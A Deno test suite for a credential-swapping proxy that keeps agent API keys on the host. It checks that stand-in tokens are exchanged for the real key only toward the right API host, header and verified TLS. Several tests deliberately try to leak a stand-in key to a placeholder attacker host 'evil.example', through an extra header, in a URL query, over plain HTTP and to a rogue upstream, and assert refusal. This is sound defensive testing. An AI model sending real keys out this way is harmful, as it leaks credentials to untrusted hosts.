/**
 * Agent keys stay on the host: cal's proxy swaps a session's stand-in for the real key only on
 * HTTPS it terminated toward that credential's own API host, in its own header, over verified
 * TLS; a stand-in toward any other host, in another header, in a URL, over plain HTTP or after
 * its session ended is refused.
 *
 * In-process (real curl through the real proxy to a local HTTPS stand-in of an API); the API's
 * name reaches the stand-in through the proxy's resolver seam, on a loopback address of its own
 * at port 443 (so root), allowed by address as a team would allow a private host.
 */

import { after, before, describe, it } from "node:test";
import assert from "node:assert/strict";
import { join } from "node:path";
import {
  createMitmCA,
  generateCa,
  type MitmCA,
} from "@anthropic-ai/sandbox-runtime/dist/sandbox/mitm-ca.js";
import { type RunningProxy, startProxy } from "../lib/network/proxy.ts";
import { workspaceCa, writeTrustBundle } from "../lib/network/ca.ts";
import { controlSocket, openSession, serveControl, StandIns } from "../lib/network/credentials.ts";
import type { Entry } from "../lib/network/log.ts";
import type { Policy } from "../lib/network/policy.ts";
import { tempDir } from "./helpers.ts";
import { fakeApi, ownLoopback } from "./api_standin.ts";

const root = Deno.uid() === 0;
const REAL = "sk-ant-REAL-" + crypto.randomUUID().replaceAll("-", "");

async function curl(args: string[]): Promise<{ code: number; out: string; err: string }> {
  const o = await new Deno.Command("curl", {
    args: ["-sS", "-m", "20", ...args],
    env: { NO_PROXY: "", no_proxy: "" },
    stdout: "piped",
    stderr: "piped",
  }).output();
  const d = new TextDecoder();
  return { code: o.code, out: d.decode(o.stdout), err: d.decode(o.stderr) };
}

describe("key swapping in cal's proxy", { skip: !root && "binds port 443 on loopback" }, () => {
  let dir: string;
  let proxy: RunningProxy;
  let upstreamCa: MitmCA;
  let api: Deno.HttpServer;
  let other: Deno.HttpServer;
  let plain: Deno.HttpServer;
  let bundle: string;
  let standIns: StandIns;
  const apiAddr = ownLoopback();
  const otherAddr = ownLoopback();
  const seen: { host: string; key: string | null; auth: string | null; extra: string | null }[] =
    [];
  const decisions: Entry[] = [];
  let plainPort = 0;
  let url = "";

  before(async () => {
    dir = await tempDir("cal-swap-");
    const g = generateCa({ cn: "test upstream CA" });
    upstreamCa = createMitmCA({ caCertPem: g.certPem, caKeyPem: g.keyPem });
    const record = (host: string) => (req: Request) => {
      seen.push({
        host,
        key: req.headers.get("x-api-key"),
        auth: req.headers.get("authorization"),
        extra: req.headers.get("x-extra"),
      });
      return Response.json({ ok: true });
    };
    api = fakeApi(upstreamCa, apiAddr, ["api.anthropic.com"], record("api"));
    other = fakeApi(upstreamCa, otherAddr, ["evil.example"], record("other"));
    plain = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, record("plain"));
    plainPort = (plain.addr as Deno.NetAddr).port;
    const ca = await workspaceCa(dir);
    await Deno.mkdir(join(dir, "net"));
    bundle = await writeTrustBundle(join(dir, "net"), ca);
    standIns = new StandIns();
    const policy: Policy = {
      mode: "allowlist",
      allow: [
        "api.anthropic.com",
        "evil.example",
        `${apiAddr}:443`,
        `${otherAddr}:443`,
        `127.0.0.1:${plainPort}`,
      ]
        .map((pattern) => ({ pattern, source: "test" })),
      deny: [],
    };
    proxy = await startProxy({
      policy: () => Promise.resolve(policy),
      onDecision: (e) => decisions.push({ time: "", ...e }),
      tcp: { host: "127.0.0.1", port: 0 },
      resolve: (host) =>
        Promise.resolve([{
          address: host === "api.anthropic.com"
            ? apiAddr
            : host === "evil.example"
            ? otherAddr
            : host,
          family: 4,
        }]),
      credentials: { ca, standIns, upstreamCA: g.certPem },
    });
    url = `http://127.0.0.1:${proxy.tcp!.port}`;
  });
  after(async () => {
    await proxy?.close();
    await api?.shutdown();
    await other?.shutdown();
    await plain?.shutdown();
    await Deno.remove(dir, { recursive: true }).catch(() => {});
  });

  it("the CA's key is private to the host; the bundle holds only certificates", async () => {
    assert.equal((await Deno.stat(join(dir, "network-ca.key"))).mode! & 0o777, 0o600);
    const text = await Deno.readTextFile(bundle);
    assert.doesNotMatch(text, /PRIVATE KEY/);
    assert.match(text, /^-----BEGIN CERTIFICATE-----/);
  });

  it("a live stand-in is swapped for the real key toward its own host, in its own header", async () => {
    const s = standIns.open([
      { name: "ANTHROPIC_API_KEY", value: REAL, hosts: ["api.anthropic.com"], header: "x-api-key" },
    ]);
    try {
      const standIn = s.standIns.ANTHROPIC_API_KEY;
      assert.match(standIn, /^cal-standin-[0-9a-f]{48}$/);
      seen.length = 0;
      const r = await curl([
        "-x",
        url,
        "--cacert",
        bundle,
        "-H",
        `x-api-key: ${standIn}`,
        "https://api.anthropic.com/v1/messages",
      ]);
      assert.equal(r.code, 0, r.err);
      assert.deepEqual(seen.map((x) => [x.host, x.key]), [["api", REAL]]);
    } finally {
      s.end();
    }
  });

  it("a stand-in toward another host, in another header, in the URL or over plain HTTP is refused", async () => {
    const s = standIns.open([
      { name: "ANTHROPIC_API_KEY", value: REAL, hosts: ["api.anthropic.com"], header: "x-api-key" },
      { name: "OTHER", value: "x", hosts: ["evil.example"], header: "authorization" },
    ]);
    try {
      const standIn = s.standIns.ANTHROPIC_API_KEY;
      seen.length = 0;
      const tries = [
        // To a host that is terminated (another credential's), with this one's stand-in.
        ["-H", `x-api-key: ${standIn}`, "https://evil.example/"],
        // Its own host, another header (an echoing endpoint would hand the key back).
        ["-H", `x-extra: ${standIn}`, "https://api.anthropic.com/v1/messages"],
        // In the URL.
        [`https://api.anthropic.com/v1/messages?key=${standIn}`],
        // Plain HTTP.
        ["-H", `x-api-key: ${standIn}`, `http://127.0.0.1:${plainPort}/`],
      ];
      for (const t of tries) {
        const r = await curl([
          "-x",
          url,
          "--cacert",
          bundle,
          "-o",
          "/dev/null",
          "-w",
          "%{http_code}",
          ...t,
        ]);
        assert.equal(r.out, "403", `${t.join(" ")}: ${r.out} ${r.err}`);
      }
      assert.deepEqual(seen, [], "nothing carrying a stand-in reached any server");
      assert.ok(decisions.some((d) => d.rule === "credential" && d.decision === "refused"));
    } finally {
      s.end();
    }
  });

  it("after its session ends, a stand-in is worthless and the API host is no longer terminated", async () => {
    const s = standIns.open([
      { name: "ANTHROPIC_API_KEY", value: REAL, hosts: ["api.anthropic.com"], header: "x-api-key" },
    ]);
    const standIn = s.standIns.ANTHROPIC_API_KEY;
    s.end();
    assert.equal(standIns.terminates("api.anthropic.com", 443), false);
    seen.length = 0;
    // Not terminated now: the client's own TLS meets the real (here: the stand-in's) server,
    // whose certificate our bundle does not vouch for, so nothing is sent at all.
    const r = await curl([
      "-x",
      url,
      "--cacert",
      bundle,
      "-H",
      `x-api-key: ${standIn}`,
      "https://api.anthropic.com/",
    ]);
    assert.notEqual(r.code, 0);
    assert.deepEqual(seen, []);
    // And over plain HTTP an unknown stand-in is refused outright.
    const p = await curl([
      "-x",
      url,
      "-o",
      "/dev/null",
      "-w",
      "%{http_code}",
      "-H",
      `authorization: Bearer ${standIn}`,
      `http://127.0.0.1:${plainPort}/`,
    ]);
    assert.equal(p.out, "403");
    assert.deepEqual(seen, []);
  });

  it("the upstream leg is verified: an upstream the proxy cannot verify never gets the key", async () => {
    const bogus = createMitmCA((() => {
      const g = generateCa({ cn: "unknown CA" });
      return { caCertPem: g.certPem, caKeyPem: g.keyPem };
    })());
    const addr = ownLoopback();
    const got: string[] = [];
    const rogue = fakeApi(bogus, addr, ["api.anthropic.com"], (req) => {
      got.push(req.headers.get("x-api-key") ?? "");
      return new Response("rogue");
    });
    const local = await startProxy({
      policy: () =>
        Promise.resolve({
          mode: "allowlist",
          allow: [{ pattern: "api.anthropic.com", source: "t" }, {
            pattern: `${addr}:443`,
            source: "t",
          }],
          deny: [],
        }),
      onDecision: () => {},
      tcp: { host: "127.0.0.1", port: 0 },
      resolve: () => Promise.resolve([{ address: addr, family: 4 }]),
      credentials: { ca: await workspaceCa(dir), standIns, upstreamCA: upstreamCa.certPem },
    });
    const s = standIns.open([
      { name: "ANTHROPIC_API_KEY", value: REAL, hosts: ["api.anthropic.com"], header: "x-api-key" },
    ]);
    try {
      const r = await curl([
        "-x",
        `http://127.0.0.1:${local.tcp!.port}`,
        "--cacert",
        bundle,
        "-o",
        "/dev/null",
        "-w",
        "%{http_code}",
        "-H",
        `x-api-key: ${s.standIns.ANTHROPIC_API_KEY}`,
        "https://api.anthropic.com/",
      ]);
      assert.notEqual(r.out, "200", r.err);
      assert.deepEqual(got, []);
    } finally {
      s.end();
      await local.close();
      await rogue.shutdown();
    }
  });

  it("the control socket: a session lives as long as its connection, and is 0600", async () => {
    const path = controlSocket(dir);
    const server = await serveControl(path, standIns);
    try {
      assert.equal((await Deno.stat(path)).mode! & 0o777, 0o600);
      const before = standIns.size;
      const session = await openSession(path, [
        {
          name: "ANTHROPIC_API_KEY",
          value: REAL,
          hosts: ["api.anthropic.com"],
          header: "x-api-key",
        },
      ]);
      assert.match(session.standIns.ANTHROPIC_API_KEY, /^cal-standin-/);
      assert.equal(standIns.size, before + 1);
      session.close();
      const deadline = Date.now() + 10_000;
      while (standIns.size !== before && Date.now() < deadline) {
        await new Promise((r) => setTimeout(r, 20));
      }
      assert.equal(standIns.size, before, "the session ended with its connection");
    } finally {
      server.close();
    }
  });
});
